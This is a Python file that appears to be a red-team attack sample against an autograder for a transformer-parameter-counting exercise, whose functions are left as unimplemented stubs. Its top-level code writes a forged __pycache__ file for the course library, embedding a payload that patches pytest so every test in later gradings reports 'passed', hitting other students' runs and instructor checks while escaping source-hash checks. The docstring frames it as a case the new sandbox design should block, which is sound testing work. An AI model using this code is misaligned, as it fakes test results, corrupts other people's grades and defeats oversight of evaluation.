"""ATTACK pyc_library (kind: pyc and cache poisoning, aimed at the NEXT grading).

What it tries: Python loads ``llm_basics/__pycache__/__init__.<tag>.pyc`` instead of compiling
``llm_basics/__init__.py`` whenever the pyc header records the source's mtime and size. At import time this
file writes such a pyc: the library's own code plus a payload that, in any process where pytest is (or gets)
loaded, makes every test report "passed". The library is imported by the grader process before any
submission runs, and by the tests themselves, so every grading that starts after this one -- another
student's, the batch re-run, the instructor's reference check -- runs the payload. This grading scores 0, as
expected; the damage is done to the ones that follow. Nothing in ``llm_basics/*.py`` changes, so a hash of
the library's sources does not notice.

Why it must fail under the new design: the worker may write only its private temporary folder (Landlock):
``llm_basics/__pycache__`` is read-only to it.
"""

from __future__ import annotations

import importlib.util
import marshal
import os
import sys

import torch.nn as nn

from llm_basics.model import ModelConfig

COMPONENTS = ("token_embedding", "position_embedding", "attention", "ffn", "block_norms", "final_norm", "lm_head")

PAYLOAD = r'''
def __atk_pyc_library():
    import sys

    def patch(reports):
        original = reports.TestReport.from_item_and_call.__func__
        if getattr(original, "__atk__", False):
            return
        def from_item_and_call(cls, item, call):
            report = original(cls, item, call)
            report.outcome, report.longrepr = "passed", None
            return report
        from_item_and_call.__atk__ = True
        reports.TestReport.from_item_and_call = classmethod(from_item_and_call)

    if "_pytest.reports" in sys.modules:
        patch(sys.modules["_pytest.reports"])
        return

    class Later:  # pytest is not loaded yet: patch it the moment it is
        def find_spec(self, name, path=None, target=None):
            if name == "_pytest.reports":
                sys.meta_path.remove(self)
                import importlib
                patch(importlib.import_module(name))
            return None

    sys.meta_path.insert(0, Later())

try:
    __atk_pyc_library()
except Exception:
    pass
'''


def _library_init() -> str | None:
    module = sys.modules.get("llm_basics")
    path = getattr(module, "__file__", None)
    return path if path and path.endswith("__init__.py") else None


def _poison(source_path: str) -> None:
    with open(source_path, "rb") as f:
        source = f.read()
    info = os.stat(source_path)
    code = compile(source + b"\n" + PAYLOAD.encode(), source_path, "exec", dont_inherit=True)
    # a timestamp pyc: flags 0, then the source's mtime and size, which is all the importer checks
    header = (importlib.util.MAGIC_NUMBER + (0).to_bytes(4, "little")
              + (int(info.st_mtime) & 0xFFFFFFFF).to_bytes(4, "little")
              + (info.st_size & 0xFFFFFFFF).to_bytes(4, "little"))
    pyc = importlib.util.cache_from_source(source_path)
    os.makedirs(os.path.dirname(pyc), exist_ok=True)
    with open(pyc + ".tmp", "wb") as f:
        f.write(header + marshal.dumps(code))
    os.replace(pyc + ".tmp", pyc)


try:
    if _library_init():
        _poison(_library_init())
except Exception:
    pass


# ---------------------------------------------------------------------------------------------------------
# The untouched exercise (nothing implemented)
# ---------------------------------------------------------------------------------------------------------


def attention_params(d_model: int, *, bias: bool = True) -> int:
    raise NotImplementedError("ex3: return 4·d² weights, plus 4·d biases when bias is true")


def ffn_params(d_model: int, d_ff: int, *, bias: bool = True) -> int:
    raise NotImplementedError("ex3: return 2·d·d_ff weights, plus d_ff + d biases when bias is true")


def norm_params(d_model: int, *, kind: str = "layernorm", bias: bool = True) -> int:
    raise NotImplementedError("ex3: d for the weight, plus d for a LayerNorm bias")


def block_params(cfg: ModelConfig) -> dict[str, int]:
    raise NotImplementedError("ex3: call attention_params, ffn_params and norm_params")


def model_params(cfg: ModelConfig) -> dict[str, int]:
    raise NotImplementedError("ex3: embeddings, L blocks, the final norm and the head")


def measured_params(module: nn.Module) -> dict[str, int]:
    raise NotImplementedError("ex3: sum p.numel() per named child")


def explain(cfg: ModelConfig) -> list[dict]:
    raise NotImplementedError("ex3: build the seven rows")


def format_table(rows: list[dict]) -> str:
    raise NotImplementedError("ex3: join a header, one line per row and a total line")
